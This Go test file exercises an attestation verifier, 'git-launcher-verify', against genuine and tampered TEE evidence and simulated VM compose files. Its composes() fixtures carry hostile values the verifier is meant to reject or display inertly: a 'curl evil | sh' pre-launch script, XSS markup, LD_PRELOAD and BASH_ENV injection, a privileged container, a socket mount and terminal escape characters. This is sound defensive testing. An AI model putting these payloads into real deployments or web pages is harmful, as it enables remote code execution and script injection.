package test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// The corpus: evidence and what it is judged by, as files of a folder.
type (
	file struct{ name, role string }
	item struct {
		name   string
		files  []file
		policy string
		at     string
	}
)

const (
	fixtures = "../../../shared/fixtures" // real evidence
	made     = "../../bin/page.evidence"  // make demo OUT=bin/page.evidence
	programs = "../../bin"
)

// verdict is what the command says about an item: its JSON, or its error.
type verdict struct {
	json, problem string
	code          int
}

// command judges an item by git-launcher-verify --offline --json.
func command(t testing.TB, dir string, i item) verdict {
	t.Helper()
	program, err := filepath.Abs(filepath.Join(programs, "git-launcher-verify"))
	if err != nil {
		t.Fatal(err)
	}
	args := []string{"verify", "--offline", "--json", "--at", i.at}
	if i.policy != "" {
		if err := os.WriteFile(filepath.Join(dir, "policy.conf"), []byte(i.policy), 0o644); err != nil {
			t.Fatal(err)
		}
		args = append(args, "--policy", "policy.conf")
	}
	evidence := ""
	for _, f := range i.files {
		if f.role == "evidence" {
			evidence = f.name
			continue
		}
		args = append(args, "--"+f.role, f.name)
	}
	if evidence != "" {
		args = append(args, evidence)
	}
	cmd := exec.Command(program, args...)
	var out, errs bytes.Buffer
	cmd.Dir, cmd.Stdout, cmd.Stderr = dir, &out, &errs
	err = cmd.Run()
	var exit *exec.ExitError
	if err != nil && !errors.As(err, &exit) {
		t.Fatal(err)
	}
	problem, _, _ := strings.Cut(strings.TrimPrefix(errs.String(), "git-launcher-verify: "), "\ngit-launcher-verify: see ")
	problem, _, _ = strings.Cut(problem, "\nNOT VERIFIED: ")
	return verdict{out.String(), problem, cmd.ProcessState.ExitCode()}
}

// corpus writes all files into a folder, and returns what the page judges.
func corpus(t testing.TB, dir string) []item {
	t.Helper()
	return append(append(golden(t, dir), launched(t, dir)...), composes(t, dir)...)
}

func read(t testing.TB, name string) []byte {
	t.Helper()
	data, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func write(t testing.TB, dir, name string, data []byte) string {
	t.Helper()
	if err := os.WriteFile(filepath.Join(dir, name), data, 0o644); err != nil {
		t.Fatal(err)
	}
	return name
}

// golden returns real evidence: the golden cases of the command, and a node's evidence
// with one byte changed at a time.
func golden(t testing.TB, dir string) []item {
	for _, name := range []string{"near-public-data.json", "dstack-quote-report.json", "dstack-quote-report.collateral.json", "dstack-0.6-getquote.json"} {
		write(t, dir, name, read(t, filepath.Join(fixtures, name)))
	}
	const (
		summer = "2026-08-20T00:00:00Z"
		launch = "LAUNCHER_IMAGE_DIGEST=sha256:5618a93a78c9ac9173e7ebf7c8af173bd675be6832a2f8c2a9a7149ac2678f54\n" +
			"IMAGE_DIGEST=sha256:564a5aebc33495d5610626d23cb9e3da8e9d531d0edff9e38aa1ccaf059c15d3\n"
		system = "MRTD=f06dfda6dce1cf904d4e2bab1dc370634cf95cefa2ceb2de2eee127c9382698090d7a4a13e14c536ec6c9c3c8fa87077\n" +
			"RTMR0=e673be2f70beefb70b48a6109eed4715d7270d4683b3bf356fa25fafbf1aa76e39e9127e6e688ccda98bdab1d4d47f46\n" +
			"RTMR1=b598fde9491427341bc4683b75d10d3e36770af3a36a6954d8b6b7b22aa66358f13e1f172e51b7d6e6710d99a8d8532f\n" +
			"RTMR2=c812d42bfff1c75382e91a37c867ab117b97eb5e8d6797488928ea38e5fd38b5ed2f87d9613d392507f1c3af94657c93\n"
		accepting = "OS_IMAGE=dstack-dev-0.5.8\nACCEPT_ADVISORY=DEV-IMAGE,GHSA-c79w-3x5w-gmm5\nCOLLATERAL=evidence\nPERSISTENT_DISK=accepted\n" +
			"ALLOW_COMPOSE=service:signer-key-export@sha256:cda8e3f64bde7c90e83bb50472be923c31c0b2cedf40bdcb85718c3414479907\n" +
			"KEY_PROVIDER=local-sgx:6b5ed02e549a1c30aaa8e3171a045f1f449b0017353ef595e78e39c348c98d01\n"
	)
	near := []file{{"near-public-data.json", "evidence"}}
	items := []item{
		{"near", near, launch + system, summer},
		{"near-allowed", near, launch + accepting, summer},
		{"near-stale", near, launch + system, "2026-11-01T00:00:00Z"},
		{"near without a policy", near, "", summer},
		{"dstack", []file{{"dstack-quote-report.json", "evidence"}, {"dstack-quote-report.collateral.json", "collateral"}}, "", "2026-02-20T00:00:00Z"},
		{"dstack without collateral", []file{{"dstack-quote-report.json", "evidence"}}, "", "2026-02-20T00:00:00Z"},
		{"dstack-0.6", []file{{"dstack-0.6-getquote.json", "evidence"}}, "OS_IMAGE_HASH=e6f5cfec20c02e7b97baa213d0f718020b55e040172d90ccbcb946d56c8b09db\n", summer},
		{"another policy's words", near, "COMMIT_SHA=x\n", summer},
		{"a key that is none", near, "COMMIT=1\n", summer},
		{"a system that is not known", near, "OS_IMAGE=dstack-9\n", summer},
		{"an answer as a quote", []file{{"dstack-quote-report.json", "quote"}}, "", summer},
	}
	whole := read(t, filepath.Join(dir, "near-public-data.json"))
	const places = 24
	for n := range places {
		changed := bytes.Clone(whole)
		at := len(changed) * (2*n + 1) / (2 * places)
		for !strings.ContainsRune("0123456789abcdef", rune(changed[at])) {
			at++
		}
		changed[at] ^= 1
		name := write(t, dir, fmt.Sprintf("near-%02d.json", n), changed)
		items = append(items, item{"near, byte " + fmt.Sprint(at), []file{{name, "evidence"}}, launch + accepting, summer})
	}
	for name, data := range map[string][]byte{
		"empty.json": nil, "half.json": whole[:len(whole)/2], "twice.json": append(bytes.Clone(whole), whole...), "list.json": []byte("[]"),
		"object.json": []byte("{}"), "text.json": []byte("hello\n"), "zeros.json": make([]byte, 1000), "deep.json": bytes.Repeat([]byte("["), 100_000),
	} {
		items = append(items, item{"no evidence: " + name, []file{{write(t, dir, name, data), "evidence"}}, launch, summer})
	}
	return items
}

// launched returns the demo's receipt under its policy, under that policy with each
// line changed or left out, and with a byte changed in each of the receipt's parts.
func launched(t testing.TB, dir string) []item {
	for _, name := range []string{"receipt.json", "root.pem", "collateral.json"} {
		write(t, dir, name, read(t, filepath.Join(made, name)))
	}
	now := time.Now().UTC().Format(time.RFC3339)
	policy := string(read(t, filepath.Join(made, "policy.conf")))
	by := []file{{"root.pem", "root"}, {"collateral.json", "collateral"}}
	with := func(evidence string) []file { return append([]file{{evidence, "evidence"}}, by...) }
	items := []item{
		{"receipt", with("receipt.json"), policy, now},
		{"receipt without its root", []file{{"receipt.json", "evidence"}, {"collateral.json", "collateral"}}, policy, now},
		{"receipt without collateral", []file{{"receipt.json", "evidence"}, {"root.pem", "root"}}, policy, now},
		{"receipt without a policy", with("receipt.json"), "", now},
		{"receipt for a nonce", with("receipt.json"), policy + "NONCE=00\n", now},
	}
	lines := strings.SplitAfter(strings.TrimSuffix(policy, "\n"), "\n")
	for n, line := range lines {
		key, value, ok := strings.Cut(strings.TrimSuffix(line, "\n"), "=")
		if !ok || strings.HasPrefix(key, "#") {
			continue
		}
		others := func(with string) string { return strings.Join(lines[:n], "") + with + strings.Join(lines[n+1:], "") }
		items = append(items, item{"no " + key, with("receipt.json"), others(""), now})
		if value != "" {
			last := map[bool]string{true: "1", false: "0"}[strings.HasSuffix(value, "0")]
			items = append(items, item{"another " + key, with("receipt.json"), others(key + "=" + value[:len(value)-1] + last + "\n"), now})
		}
	}
	var receipt map[string]json.RawMessage
	if err := json.Unmarshal(read(t, filepath.Join(dir, "receipt.json")), &receipt); err != nil {
		t.Fatal(err)
	}
	for _, key := range []string{"quote", "event_log", "record", "nonce", "report_data", "vm_config", "info"} {
		changed := make(map[string]json.RawMessage)
		for k, v := range receipt {
			changed[k] = v
		}
		value := bytes.Clone(changed[key])
		for at := len(value) / 2; at < len(value); at++ {
			if strings.ContainsRune("0123456789abcdef", rune(value[at])) {
				value[at] ^= 1
				break
			}
		}
		changed[key] = value
		data, err := json.Marshal(changed)
		if err != nil {
			t.Fatal(err)
		}
		items = append(items, item{"receipt, a byte of its " + key, with(write(t, dir, "receipt-"+key+".json", data)), policy, now})
	}
	// The same in parts.
	var parts struct {
		Quote    string `json:"quote"`
		EventLog string `json:"event_log"`
		VMConfig string `json:"vm_config"`
		Info     struct {
			TCBInfo string `json:"tcb_info"`
		} `json:"info"`
	}
	if err := json.Unmarshal(read(t, filepath.Join(dir, "receipt.json")), &parts); err != nil {
		t.Fatal(err)
	}
	files := []file{
		{write(t, dir, "quote.hex", []byte(parts.Quote)), "quote"}, {write(t, dir, "log.json", []byte(parts.EventLog)), "event-log"},
		{write(t, dir, "tcb.json", []byte(parts.Info.TCBInfo)), "tcb-info"}, {write(t, dir, "vm.json", []byte(parts.VMConfig)), "vm-config"},
	}
	return append(items, item{"in parts", append(files, by...), policy, now}, item{"a quote alone", append(files[:1:1], by...), policy, now})
}

// composes returns composes that check D refuses, each in the evidence of a simulated
// VM, with words in them that must reach the page only as words.
func composes(t testing.TB, dir string) []item {
	launcher := "image: example.org/git-launcher@sha256:" + strings.Repeat("a1", 32)
	service := func(lines string) string {
		return "services:\n  launcher:\n    " + launcher + "\n    read_only: true\n    environment:\n      GIT_LAUNCHER_CONFIG: |\n        REPO_URL=https://example.org/r\n        COMMIT_SHA=" + strings.Repeat("b2", 20) + "\n" + lines
	}
	app := func(compose string, more map[string]any) map[string]any {
		a := map[string]any{"manifest_version": 2, "name": "page", "runner": "docker-compose", "docker_compose_file": compose}
		for k, v := range more {
			a[k] = v
		}
		return a
	}
	const markup = `<img src=x onerror="document.title='owned'"><script>document.title='owned'</script>`
	var items []item
	for name, a := range map[string]map[string]any{
		"honest":      app(service(""), nil),
		"stranger":    app(service("  stranger:\n    image: example.org/x\n    privileged: true\n"), nil),
		"socket":      app(service("  stranger:\n    image: example.org/x\n    volumes: [/var/run/dstack.sock:/s]\n"), nil),
		"writable":    app(strings.Replace(service(""), "read_only: true", "read_only: false", 1), nil),
		"script":      app(service(""), map[string]any{"pre_launch_script": "curl evil | sh"}),
		"init script": app(service(""), map[string]any{"init_script": "x"}),
		"field":       app(service(""), map[string]any{markup: true, "\u202etxt.\u0007\x1b[2Jevil": 1}),
		"markup":      app(service("  stranger:\n    image: "+markup+"\n    command: '"+strings.ReplaceAll(markup, "'", "''")+"'\n"), map[string]any{"name": markup}),
		"environment": app(service("      BASH_ENV: /x\n"), map[string]any{"allowed_envs": []string{"LD_PRELOAD", markup}}),
		"tags":        app(service("")+"x-y: !!str 1\n", nil),
		"no yaml":     app("services: [", nil),
		"no compose":  {"manifest_version": 2, "runner": "bash", "bash_script": "true"},
	} {
		stem := strings.ReplaceAll(name, " ", "-")
		data, err := json.Marshal(a)
		if err != nil {
			t.Fatal(err)
		}
		simulate(t, dir, stem, data)
		files := []file{{stem + ".json", "evidence"}, {stem + ".pem", "root"}, {stem + ".collateral.json", "collateral"}}
		items = append(items, item{"compose: " + name, files, string(read(t, filepath.Join(dir, stem+".conf"))), time.Now().UTC().Format(time.RFC3339)})
	}
	return items
}

// simulate writes a guest agent's answers for an app-compose, to Info and to GetQuote.
func simulate(t testing.TB, dir, stem string, compose []byte) {
	t.Helper()
	at := func(name string) string { return filepath.Join(dir, name) }
	if err := os.WriteFile(at(stem+".app"), compose, 0o644); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(filepath.Join(programs, "dstack-sim"), "--socket", at("sock"), "--app-compose", at(stem+".app"),
		"--root-out", at(stem+".pem"), "--collateral-out", at(stem+".collateral.json"), "--policy-out", at(stem+".conf"))
	var said bytes.Buffer
	cmd.Stdout, cmd.Stderr = &said, &said
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		cmd.Process.Signal(syscall.SIGTERM)
		cmd.Wait()
	}()
	client := &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{DisableKeepAlives: true, DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return new(net.Dialer).DialContext(ctx, "unix", at("sock"))
	}}}
	var both []byte
	for _, call := range []string{"Info", "GetQuote"} {
		var resp *http.Response
		var err error
		for deadline := time.Now().Add(30 * time.Second); ; {
			resp, err = client.Post("http://dstack/"+call, "application/json", strings.NewReader(`{"report_data":"00"}`))
			if err == nil || time.Now().After(deadline) {
				break
			}
			time.Sleep(20 * time.Millisecond)
		}
		if err != nil {
			t.Fatalf("%v\n%s", err, said.String())
		}
		data, err := io.ReadAll(resp.Body)
		resp.Body.Close()
		if err != nil || resp.StatusCode != http.StatusOK {
			t.Fatalf("%s: %s %v", call, data, err)
		}
		both = append(append(both, data...), '\n')
	}
	if err := os.WriteFile(at(stem+".json"), both, 0o644); err != nil {
		t.Fatal(err)
	}
}
